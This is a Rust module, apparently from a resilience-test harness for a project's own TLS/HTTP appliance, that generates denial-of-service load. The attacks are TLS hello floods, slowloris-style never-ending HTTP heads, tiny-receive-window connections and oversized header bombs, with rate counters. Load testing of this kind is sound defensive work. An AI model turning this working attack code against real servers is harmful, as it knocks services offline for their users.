//! The attackers: two threads at the lowest priority.
//!
//! Only those who need keys make a whole handshake. Hellos are made once and sent again and again,
//! since a client that goes no further need not compute anything.

use std::collections::VecDeque;
use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow, bail};
use rustix::fd::OwnedFd;
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, sockopt};
use rustls::ClientConfig;
use rustls::client::UnbufferedClientConnection;
use rustls::pki_types::ServerName;
use rustls::unbuffered::{ConnectionState, EncodeError};
use serde::Serialize;

use crate::client::{Keys, shake, tls_config};
use crate::site::Site;

/// How much of each.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Strength {
    /// A second.
    pub(crate) hellos: u32,
    /// A second.
    pub(crate) bombs: u32,
    /// At any time.
    pub(crate) slow_heads: u32,
    /// At any time.
    pub(crate) tiny_windows: u32,
}

/// What was done to the server, per second.
#[derive(Clone, Copy, Debug, Serialize)]
pub(crate) struct Offered {
    hellos_per_s: f64,
    bombs_per_s: f64,
    slow_bytes_per_s: f64,
    windows_per_s: f64,
}

#[derive(Debug, Default)]
struct Shared {
    stop: AtomicBool,
    complete: AtomicBool,
    hellos: AtomicU64,
    bombs: AtomicU64,
    slow_bytes: AtomicU64,
    windows: AtomicU64,
}

/// An attack on its way.
pub(crate) struct Attack {
    shared: Arc<Shared>,
    threads: Vec<JoinHandle<Result<()>>>,
    counted_from: std::cell::Cell<Instant>,
}

struct Aim {
    address: SocketAddr,
    name: ServerName<'static>,
    config: Arc<ClientConfig>,
    request: String,
}

/// A connection after its handshake.
struct Held {
    socket: TcpStream,
    keys: Keys,
    at: usize,
}

const DATA: u8 = 23;
/// How long a connection that sent its hello is left open.
const HELLO_HELD: Duration = Duration::from_secs(1);
/// Slow heads and closed windows come anew: so many a second.
const ANEW_PER_S: u32 = 50;
const STEP: Duration = Duration::from_millis(5);
const PATIENCE: Duration = Duration::from_secs(5);
const COMPLETE_MAX: Duration = Duration::from_secs(60);
/// The smallest receive buffer that the kernel gives (tcp(7)).
const RECEIVE_BUFFER: usize = 2304;

impl Attack {
    pub(crate) fn start(site: &Site, strength: Strength) -> Result<Self> {
        let address = site.appliance.secure;
        let aim = || -> Result<Aim> {
            Ok(Aim {
                address,
                name: ServerName::try_from(address.ip().to_string())?,
                config: tls_config(site.trust(), &[])?,
                request: format!("GET {}0.mp4 HTTP/1.1\r\nHost: a\r\n\r\n", site.base),
            })
        };
        let shared = Arc::new(Shared::default());
        let start = |name: &str, aim: Aim, work: fn(&Aim, Strength, &Shared) -> Result<()>| {
            let shared = Arc::clone(&shared);
            std::thread::Builder::new().name(name.to_owned()).spawn(move || {
                // Of this thread alone, on Linux.
                rustix::process::nice(19).context("cannot give way")?;
                work(&aim, strength, &shared)
            })
        };
        let threads = vec![start("hellos", aim()?, hellos)?, start("keys", aim()?, with_keys)?];
        Ok(Self { shared, threads, counted_from: Instant::now().into() })
    }

    /// Returns when slow heads and closed windows are as many as was asked for.
    pub(crate) fn wait_until_complete(&self) -> Result<()> {
        let began = Instant::now();
        while !self.shared.complete.load(Ordering::Relaxed) {
            if COMPLETE_MAX < began.elapsed() || self.threads.iter().any(JoinHandle::is_finished) {
                bail!("the attack did not come about within {:?}", began.elapsed());
            }
            crate::stop::check()?;
            std::thread::sleep(STEP);
        }
        Ok(())
    }

    /// What is offered counts from now.
    pub(crate) fn count_anew(&self) {
        let shared = &self.shared;
        for counter in [&shared.hellos, &shared.bombs, &shared.slow_bytes, &shared.windows] {
            counter.store(0, Ordering::Relaxed);
        }
        self.counted_from.set(Instant::now());
    }

    pub(crate) fn offered(&self) -> Offered {
        let seconds = self.counted_from.get().elapsed().as_secs_f64();
        let rate = |counter: &AtomicU64| {
            let count = u32::try_from(counter.load(Ordering::Relaxed)).unwrap_or(u32::MAX);
            f64::from(count) / seconds
        };
        Offered {
            hellos_per_s: rate(&self.shared.hellos),
            bombs_per_s: rate(&self.shared.bombs),
            slow_bytes_per_s: rate(&self.shared.slow_bytes),
            windows_per_s: rate(&self.shared.windows),
        }
    }

    pub(crate) fn stop(self) -> Result<()> {
        self.shared.stop.store(true, Ordering::Relaxed);
        for thread in self.threads {
            thread.join().map_err(|_| anyhow!("an attacker panicked"))??;
        }
        Ok(())
    }
}

/// Work to be done at a rate, in steps.
pub(super) struct Rate {
    per_s: u32,
    began: Instant,
    done: u64,
}

impl Rate {
    pub(super) fn new(per_s: u32) -> Self {
        Self { per_s, began: Instant::now(), done: 0 }
    }

    /// How many are due now; what could not be done in time is not made up for.
    pub(super) fn due(&mut self) -> u64 {
        let millis = u64::try_from(self.began.elapsed().as_millis()).unwrap_or(u64::MAX);
        let all = millis.saturating_mul(u64::from(self.per_s)) / 1000;
        let due = (all - self.done).min(u64::from(self.per_s) / 20 + 1);
        self.done = all;
        due
    }
}

fn hellos(aim: &Aim, strength: Strength, shared: &Shared) -> Result<()> {
    let hello = hello(aim)?;
    // The others need keys, and would not get them in time.
    while !shared.complete.load(Ordering::Relaxed) && !shared.stop.load(Ordering::Relaxed) {
        std::thread::sleep(STEP);
    }
    let mut held: VecDeque<(Instant, OwnedFd)> = VecDeque::new();
    let mut rate = Rate::new(strength.hellos);
    while !shared.stop.load(Ordering::Relaxed) {
        let now = Instant::now();
        for _ in 0..rate.due() {
            if let Ok(socket) = connect(aim.address)
                && rustix::net::send(&socket, &hello, SendFlags::NOSIGNAL).is_ok()
            {
                held.push_back((now, socket));
                shared.hellos.fetch_add(1, Ordering::Relaxed);
            }
        }
        while held.front().is_some_and(|(since, _)| HELLO_HELD < now - *since) {
            held.pop_front();
        }
        std::thread::sleep(STEP);
    }
    Ok(())
}

/// A socket that is being connected, which on loopback it is by then. It ends with a reset, so that
/// no port stays taken.
fn connect(address: SocketAddr) -> rustix::io::Result<OwnedFd> {
    let flags = SocketFlags::CLOEXEC | SocketFlags::NONBLOCK;
    let socket = rustix::net::socket_with(AddressFamily::INET, SocketType::STREAM, flags, None)?;
    sockopt::set_socket_linger(&socket, Some(Duration::ZERO))?;
    match rustix::net::connect(&socket, &address) {
        Ok(()) | Err(rustix::io::Errno::INPROGRESS) => Ok(socket),
        Err(error) => Err(error),
    }
}

fn hello(aim: &Aim) -> Result<Vec<u8>> {
    let mut tls = UnbufferedClientConnection::new(Arc::clone(&aim.config), aim.name.clone())?;
    let status = tls.process_tls_records(&mut []);
    let ConnectionState::EncodeTlsData(mut data) = status.state? else {
        bail!("rustls does not begin with a hello");
    };
    let Err(EncodeError::InsufficientSize(size)) = data.encode(&mut []) else {
        bail!("a hello of no bytes");
    };
    let mut out = vec![0; size.required_size];
    let len = data.encode(&mut out)?;
    out.truncate(len);
    Ok(out)
}

/// Those that need keys: slow heads and closed windows, then bombs, and some of the former anew.
fn with_keys(aim: &Aim, strength: Strength, shared: &Shared) -> Result<()> {
    let mut windows: VecDeque<Held> = VecDeque::new();
    let mut heads: VecDeque<Held> = VecDeque::new();
    for _ in 0..strength.tiny_windows {
        windows.extend(open_window(aim));
        if shared.stop.load(Ordering::Relaxed) {
            return Ok(());
        }
    }
    for _ in 0..strength.slow_heads {
        heads.extend(open(aim, None));
    }
    shared.complete.store(true, Ordering::Relaxed);
    let mut bytes = Rate::new(strength.slow_heads);
    let mut bombs = Rate::new(strength.bombs);
    let mut anew = Rate::new(ANEW_PER_S);
    let mut spent: VecDeque<(Instant, Held)> = VecDeque::new();
    while !shared.stop.load(Ordering::Relaxed) {
        for _ in 0..bytes.due() {
            let Some(mut head) = heads.pop_front() else { break };
            if next_byte(&mut head, aim) {
                shared.slow_bytes.fetch_add(1, Ordering::Relaxed);
                heads.push_back(head);
            }
        }
        for _ in 0..anew.due() {
            if strength.tiny_windows != 0 {
                windows.pop_front();
                windows.extend(open_window(aim));
                shared.windows.fetch_add(1, Ordering::Relaxed);
            }
            if heads.len() < usize::try_from(strength.slow_heads)? {
                heads.extend(open(aim, None));
            }
        }
        let now = Instant::now();
        for _ in 0..bombs.due() {
            if let Some(held) = open(aim, None).and_then(|held| bomb(held).ok()) {
                spent.push_back((now, held));
                shared.bombs.fetch_add(1, Ordering::Relaxed);
            }
        }
        while spent.front().is_some_and(|(since, _)| HELLO_HELD < now - *since) {
            spent.pop_front();
        }
        std::thread::sleep(STEP);
    }
    Ok(())
}

/// A connection after its handshake; none if the server lets nobody in now.
fn open(aim: &Aim, receive_buffer: Option<usize>) -> Option<Held> {
    let flags = SocketFlags::CLOEXEC;
    let socket = rustix::net::socket_with(AddressFamily::INET, SocketType::STREAM, flags, None);
    let socket = socket.ok()?;
    sockopt::set_socket_linger(&socket, Some(Duration::ZERO)).ok()?;
    rustix::net::connect(&socket, &aim.address).ok()?;
    let mut socket = TcpStream::from(socket);
    socket.set_nodelay(true).ok()?;
    socket.set_read_timeout(Some(PATIENCE)).ok()?;
    let keys = shake(&aim.config, &aim.name, &mut socket).ok()?;
    if let Some(len) = receive_buffer {
        // Not before: a handshake through such a window takes long on both sides.
        sockopt::set_socket_recv_buffer_size(&socket, len).ok()?;
    }
    socket.set_nonblocking(true).ok()?;
    Some(Held { socket, keys, at: 0 })
}

fn open_window(aim: &Aim) -> Option<Held> {
    let mut held = open(aim, Some(RECEIVE_BUFFER))?;
    held.say(aim.request.as_bytes()).ok()?;
    Some(held)
}

/// Sends the next byte of a head that never ends; false if the server has closed.
fn next_byte(held: &mut Held, aim: &Aim) -> bool {
    let request = aim.request.as_bytes();
    // The end of the head is never reached.
    let byte = request.get(held.at).filter(|_| held.at + 4 < request.len()).unwrap_or(&b'a');
    held.at += 1;
    held.say(&[*byte]).is_ok()
}

fn bomb(mut held: Held) -> Result<Held> {
    let line = b"X-Nothing: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
    let mut head = b"GET / HTTP/1.1\r\nHost: a\r\n".to_vec();
    while head.len() + line.len() < 1 << 14 {
        head.extend_from_slice(line);
    }
    held.say(&head)?;
    Ok(held)
}

impl Held {
    fn say(&mut self, plain: &[u8]) -> Result<()> {
        let mut record = Vec::new();
        self.keys.send.seal(DATA, plain, &mut record);
        Ok(self.socket.write_all(&record)?)
    }
}
